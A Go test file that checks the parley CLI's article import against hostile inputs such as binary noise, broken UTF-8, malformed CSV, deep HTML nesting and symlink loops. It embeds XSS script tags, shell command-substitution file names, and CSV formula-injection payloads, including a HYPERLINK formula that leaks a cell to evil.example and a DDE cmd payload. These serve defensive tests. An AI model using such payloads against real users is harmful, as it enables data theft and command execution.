package main

import (
	"bufio"
	"encoding/binary"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"parley/app"
	"parley/app/apptest"
	"parley/app/ingest"
)

// Hostile inputs go through the real `parley-cli import`: each file gets a
// clear error naming it and the reason, or a correct import; the rest of the
// batch lands, and nothing stored before is lost.

// goodText is an article every hostile batch carries, to show it still lands.
const goodText = "Un titre\n\nLe Vietnam et le Japon ont tenu des entretiens à Tokyo le 3 mai 2024.\n"

// seededLibrary is a library holding the five seed pages, with their list.
func seededLibrary(t *testing.T) (db string, before []articleJSON) {
	t.Helper()
	db = filepath.Join(apptest.TempDir(t), "lib.parley")
	mustCLI(t, db, "import", apptest.SeedsDir(t))
	return db, articlesJSON(t, db)
}

// checkKept fails unless every article of before is still there, unchanged,
// and added more came in.
func checkKept(t *testing.T, db string, before []articleJSON, added int) []articleJSON {
	t.Helper()
	after := articlesJSON(t, db)
	if len(after) != len(before)+added {
		t.Errorf("%d articles after, want %d before + %d added", len(after), len(before), added)
	}
	byID := map[int64]articleJSON{}
	for _, a := range after {
		byID[a.ID] = a
	}
	for _, a := range before {
		if byID[a.ID] != a {
			t.Errorf("article %d %s changed or lost: %+v -> %+v", a.ID, a.Source, a, byID[a.ID])
		}
	}
	return after
}

// writeFiles writes name → content into dir (names may hold sub-folders).
func writeFiles(t *testing.T, dir string, files map[string][]byte) {
	t.Helper()
	for name, b := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// utf16File encodes s as UTF-16 with a byte order mark.
func utf16File(s string, order binary.AppendByteOrder) []byte {
	out := order.AppendUint16(nil, 0xFEFF)
	for _, u := range utf16.Encode([]rune(s)) {
		out = order.AppendUint16(out, u)
	}
	return out
}

func TestHostileFilesInOneBatch(t *testing.T) {
	db, before := seededLibrary(t)
	rng := rand.New(rand.NewPCG(8, 8))
	noise := make([]byte, 4096)
	for i := range noise {
		noise[i] = byte(rng.UintN(256))
	}
	deep := "<html><body>" + strings.Repeat("<div>", 100000) + "<p>" +
		strings.Repeat("Le ministre a rencontré son homologue japonais à Tokyo. ", 5) + "</p>" + strings.Repeat("</div>", 100000)
	scripted := `<html><head><title>Visite à Tokyo</title><script>alert("pwned")</script></head><body>
<script>document.write("<p>injected text</p>")</script><noscript>Activez JavaScript</noscript>
<article><h1>Visite à Tokyo</h1><p onclick="evil()">Le vice-ministre vietnamien des Affaires étrangères a rencontré son homologue japonais à Tokyo le 12 mars 2024.</p>
<p>Les deux parties ont salué les progrès de la coopération maritime et de la sécurité régionale.</p>
<style>p { color: red }</style><iframe src="javascript:alert(1)"></iframe></article></body></html>`
	utf16Text := "Visite à Hà Nội\n\nLe Premier ministre a reçu l'ambassadeur du Japon à Hà Nội le 2 mars 2024.\n"

	// name → the outcome line's start and the reason it must give ("" when imported).
	cases := []struct {
		name    string
		content []byte
		reason  string
	}{
		{"binary.txt", append([]byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 0x0d}, noise...), "binary content (NUL byte at 8)"},
		{"noise.html", noise, "binary content (NUL byte at"},
		{"controls.txt", []byte(strings.Repeat("\x01\x02\x03\x04 texte ", 50)), "binary content (control byte 0x01 at 0)"},
		{"invalid-utf8.txt", []byte("Titre\n\nLe ministre \xe9tait \xe0 Hano\xef.\n"), "invalid UTF-8 at byte 19"},
		{"truncated-utf8.csv", []byte("text\nLe ministre a reçu\xc3"), "invalid UTF-8 at byte 24"},
		{"utf16le.txt", utf16File(utf16Text, binary.LittleEndian), ""},
		{"utf16be.txt", utf16File(strings.Replace(utf16Text, "2 mars", "3 mars", 1), binary.BigEndian), ""},
		{"empty.txt", nil, "empty file"},
		{"empty.csv", nil, "empty file"},
		{"empty.html", nil, "empty file"},
		{"blank.txt", []byte(" \n\t\r\n\u00a0\u200b \n"), "no text (only whitespace)"},
		{"blank.csv", []byte("\r\n\r\n"), "no text (only whitespace)"},
		{"bom-only.txt", []byte("\xEF\xBB\xBF"), "empty file"},
		{"csv-no-text-column.csv", []byte("title,url\nA,http://x\n"), `CSV: no "text" column in header [title url]`},
		{"csv-missing-cells.csv", []byte("text,title,published\nUn texte.,A,2024-01-02\nDeux.,B\n"), "CSV row 2 (line 3): wrong number of fields"},
		{"csv-extra-cells.csv", []byte("text,title\nUn texte.,A,en trop\n"), "CSV row 1 (line 2): wrong number of fields"},
		{"csv-duplicate-column.csv", []byte("text;title;Title\nUn texte.;A;B\n"), `CSV: column "Title" appears twice in header`},
		{"csv-unbalanced-quote.csv", []byte("text,title\n\"Un texte, jamais fermé,A\nDeux,B\n"), `CSV row 1 (line 3): extraneous or missing " in quoted-field`},
		{"csv-bare-quote.csv", []byte("text,title\nUn \"texte,A\n"), `CSV row 1 (line 2): bare " in non-quoted-field`},
		{"csv-header-only.csv", []byte("text,title\n"), "CSV: no data rows after the header"},
		{"deep.html", []byte(deep), "HTML: elements nested more than 512 deep"},
		{"scripted.html", []byte(scripted), ""},
		{"good.txt", []byte(goodText), ""},
	}
	dir := apptest.TempDir(t)
	files := map[string][]byte{}
	for _, c := range cases {
		files[c.name] = c.content
	}
	writeFiles(t, dir, files)

	start := time.Now()
	code, out, _ := cli(t, db, "import", dir)
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("the batch took %v", d)
	}
	if code != exitFailed {
		t.Errorf("exit %d, want %d when files are rejected", code, exitFailed)
	}
	imported := 0
	for _, c := range cases {
		path := filepath.Join(dir, c.name)
		if c.reason == "" {
			imported++
			if !strings.Contains(out, "imported "+path+"\n") {
				t.Errorf("%s not imported:\n%s", c.name, out)
			}
			continue
		}
		if want := "rejected " + path + ": " + c.reason; !strings.Contains(out, want) {
			t.Errorf("%s: want the line %q in:\n%s", c.name, want, out)
		}
	}
	checkKept(t, db, before, imported)

	// The UTF-16 files were decoded, accents and all.
	for _, name := range []string{"utf16le.txt", "utf16be.txt"} {
		if got := mustCLI(t, db, "show", name); !strings.Contains(got, "l'ambassadeur du Japon à Hà Nội") {
			t.Errorf("%s decoded wrong:\n%s", name, got)
		}
	}
	// Scripts, styles and frames are not article text.
	got := mustCLI(t, db, "show", "scripted.html")
	for _, bad := range []string{"alert", "pwned", "injected", "evil", "color: red", "javascript", "Activez"} {
		if strings.Contains(got, bad) {
			t.Errorf("scripted.html keeps %q:\n%s", bad, got)
		}
	}
	if !strings.Contains(got, "coopération maritime") {
		t.Errorf("scripted.html lost its text:\n%s", got)
	}
}

// A 100 MB text is refused as too large from its size alone: the import
// allocates far less than the file holds.
func TestHostileHugeFile(t *testing.T) {
	db, before := seededLibrary(t)
	dir := apptest.TempDir(t)
	huge := filepath.Join(dir, "huge.txt")
	f, err := os.Create(huge)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	line := strings.Repeat("Le ministre a rencontré son homologue à Tokyo. ", 20) + "\n"
	for n := 0; n < 100<<20; n += len(line) {
		w.WriteString(line)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	writeFiles(t, dir, map[string][]byte{"good.txt": []byte(goodText)})

	var m0, m1 runtime.MemStats
	runtime.ReadMemStats(&m0)
	code, out, _ := cli(t, db, "import", dir)
	runtime.ReadMemStats(&m1)
	if code != exitFailed {
		t.Errorf("exit %d, want %d", code, exitFailed)
	}
	if want := "rejected " + huge + ": file is 10485"; !strings.Contains(out, want) || !strings.Contains(out, "bytes, over the 32 MiB limit\n") {
		t.Errorf("want %q...bytes, over the 32 MiB limit in:\n%s", want, out)
	}
	if alloc := m1.TotalAlloc - m0.TotalAlloc; alloc > ingest.MaxFileSize/2 {
		t.Errorf("the import allocated %d MB: it read the refused file", alloc>>20)
	}
	checkKept(t, db, before, 1)
}

// Odd file names import like any other, named as they are.
func TestHostileFileNames(t *testing.T) {
	db, before := seededLibrary(t)
	dir := apptest.TempDir(t)
	names := []string{
		"with spaces.txt", "accentué é.txt", "decomposed e\u0301.txt", `quote"s and 'apostrophes'.txt`,
		"-leading-dash.txt", "--double-dash.csv", "=HYPERLINK(1).txt", "tab\there.txt", "日本語.txt", "UPPER.TXT",
		"semi;colon,comma.txt", "back\\slash.txt", "$(echo x)`id`.txt", "*star?.txt", "line\nbreak.txt",
	}
	files := map[string][]byte{}
	for i, n := range names {
		text := "Titre " + n + "\n\nLe Laos et le Vietnam coopèrent, pour la " + strings.Repeat("x", i+1) + " fois.\n"
		if strings.HasSuffix(n, ".csv") {
			text = "text\n\"Le Laos et le Vietnam coopèrent, pour la " + strings.Repeat("y", i+1) + " fois.\"\n"
		}
		files[n] = []byte(text)
	}
	// Each file system refuses some of these (Windows: " * ? \ tab and
	// newline); those are left out, the others must import.
	kept := names[:0:0]
	for _, n := range names {
		probe := filepath.Join(dir, n)
		if err := os.WriteFile(probe, nil, 0o644); err != nil || filepath.Base(probe) != n {
			t.Logf("this file system refuses the name %q: %v", n, err)
			delete(files, n)
			os.Remove(probe)
			continue
		}
		kept = append(kept, n)
	}
	names = kept
	writeFiles(t, dir, files)

	out := mustCLI(t, db, "import", dir)
	for _, n := range names {
		if !strings.Contains(out, "imported "+filepath.Join(dir, n)) {
			t.Errorf("%q not imported:\n%s", n, out)
		}
	}
	after := checkKept(t, db, before, len(names))
	sources := map[string]bool{}
	for _, a := range after {
		sources[a.Source] = true
	}
	for _, n := range names {
		src := n
		if strings.HasSuffix(n, ".csv") {
			src += "#1"
		}
		if !sources[src] {
			t.Errorf("no article from %q", src)
		}
	}

	// Named on the command line, a leading dash reads as an option unless
	// after "--" (or written ./-name), as for any command-line tool.
	dash := filepath.Join(dir, "-given.txt")
	writeFiles(t, dir, map[string][]byte{"-given.txt": []byte("Titre\n\nUn texte donné par son nom.\n")})
	code, _, errs := cli(t, db, "import", "-given.txt")
	if code != exitUsage || !strings.Contains(errs, "-given.txt") {
		t.Errorf("import -given.txt: exit %d, %q", code, errs)
	}
	if out := mustCLI(t, db, "import", "--", dash); !strings.Contains(out, "imported "+dash) {
		t.Errorf("import -- %s:\n%s", dash, out)
	}
}

// Symbolic links that loop or lead nowhere do not hang the import; each is
// reported with its reason, and the rest of the folder lands.
func TestHostileSymlinkLoops(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need a privilege on Windows; this runs on Linux and macOS")
	}
	db, before := seededLibrary(t)
	dir := apptest.TempDir(t)
	outside := filepath.Join(apptest.TempDir(t), "outside.txt")
	writeFiles(t, dir, map[string][]byte{"good.txt": []byte(goodText), "sub/inner.txt": []byte("Titre\n\nUn texte dans un sous-dossier.\n")})
	if err := os.WriteFile(outside, []byte("Titre\n\nUn texte hors du dossier, lié.\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	links := map[string]string{
		"self":         ".",           // a folder holding itself
		"sub/parent":   "..",          // a sub-folder holding its parent
		"a.txt":        "b.txt",       // two links to each other
		"b.txt":        "a.txt",       //
		"me.txt":       "me.txt",      // a link to itself
		"dangling.txt": "missing.txt", // a link to nothing
		"linked.txt":   outside,       // a link to a real file
		"good-2.txt":   "good.txt",    // a second name for a file of the folder
	}
	for name, target := range links {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Skipf("symbolic links: %v", err)
		}
	}
	done := make(chan struct{})
	var code int
	var out string
	go func() {
		defer close(done)
		code, out, _ = cli(t, db, "import", dir)
	}()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("the import of a folder with symbolic link loops did not end in 60 s")
	}
	if code != exitFailed {
		t.Errorf("exit %d, want %d:\n%s", code, exitFailed, out)
	}
	for _, name := range []string{"good.txt", "sub/inner.txt", "linked.txt", "good-2.txt"} {
		if !strings.Contains(out, filepath.Join(dir, name)+"\n") {
			t.Errorf("%s not imported:\n%s", name, out)
		}
	}
	for _, name := range []string{"a.txt", "b.txt", "me.txt"} {
		if want := "rejected " + filepath.Join(dir, name) + ": stat: too many levels of symbolic links"; !strings.Contains(out, want) {
			t.Errorf("want %q in:\n%s", want, out)
		}
	}
	if want := "rejected " + filepath.Join(dir, "dangling.txt") + ": stat: no such file or directory"; !strings.Contains(out, want) {
		t.Errorf("want %q in:\n%s", want, out)
	}
	// The folder links are not followed, and the progress bar's count
	// agrees with the lines of the report.
	if n, lines := app.CountFiles([]string{dir}), strings.Count(out, "\n")-1; n != lines {
		t.Errorf("CountFiles = %d, the import reported %d files:\n%s", n, lines, out)
	}
	checkKept(t, db, before, 3) // good, inner and the linked outside file; good-2 is good again

	// Named directly, a looping link is refused with the reason.
	code, out, _ = cli(t, db, "import", filepath.Join(dir, "a.txt"))
	if code != exitFailed || !strings.Contains(out, "rejected "+filepath.Join(dir, "a.txt")+": stat: too many levels of symbolic links") {
		t.Errorf("import a.txt: exit %d\n%s", code, out)
	}
}

// Titles, sources and sentences crafted as spreadsheet formulas are
// imported as text, and every export writes them as inert cells.
func TestHostileFormulaTitlesExported(t *testing.T) {
	db, _ := seededLibrary(t)
	dir := apptest.TempDir(t)
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)"}
	var csvText strings.Builder
	csvText.WriteString("title,text,published,source\n")
	for i, f := range formulas {
		quoted := `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
		csvText.WriteString(quoted + `,"` + strings.ReplaceAll(f, `"`, `""`) + ` Le Premier ministre a reçu l'ambassadeur du Japon à Hanoï le ` +
			string(rune('3'+i)) + ` mai 2024.",2024-05-0` + string(rune('3'+i)) + "," + quoted + "\n")
	}
	writeFiles(t, dir, map[string][]byte{
		"formulas.csv": []byte(csvText.String()),
		"=cmd.txt":     []byte("=1+1\n\n=2+2 Le ministre a rencontré son homologue cubain à La Havane le 4 juin 2024.\n"),
	})
	mustCLI(t, db, "import", dir)

	titles := map[string]bool{}
	for _, a := range articlesJSON(t, db) {
		titles[a.Title] = true
	}
	for _, f := range append(formulas, "=1+1") {
		if !titles[f] {
			t.Errorf("title %q not stored as written", f)
		}
	}

	for _, kind := range []string{"articles", "meetings"} {
		for _, sep := range []string{",", ";"} {
			path := filepath.Join(apptest.TempDir(t), kind+".csv")
			mustCLI(t, db, "export", kind, "--out", path, "--sep", sep)
			rows := readCSV(t, path, rune(sep[0]))
			if len(rows) < 2 {
				t.Fatalf("%s: %d rows", kind, len(rows))
			}
			inert := 0
			for _, row := range rows[1:] {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s (sep %q): cell %q would run as a formula", kind, sep, cell)
					}
					if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'-") || strings.HasPrefix(cell, "'@") {
						inert++
					}
				}
			}
			if inert < len(formulas) {
				t.Errorf("%s: %d neutralised cells, want %d at least:\n%v", kind, inert, len(formulas), rows)
			}
		}
	}
}
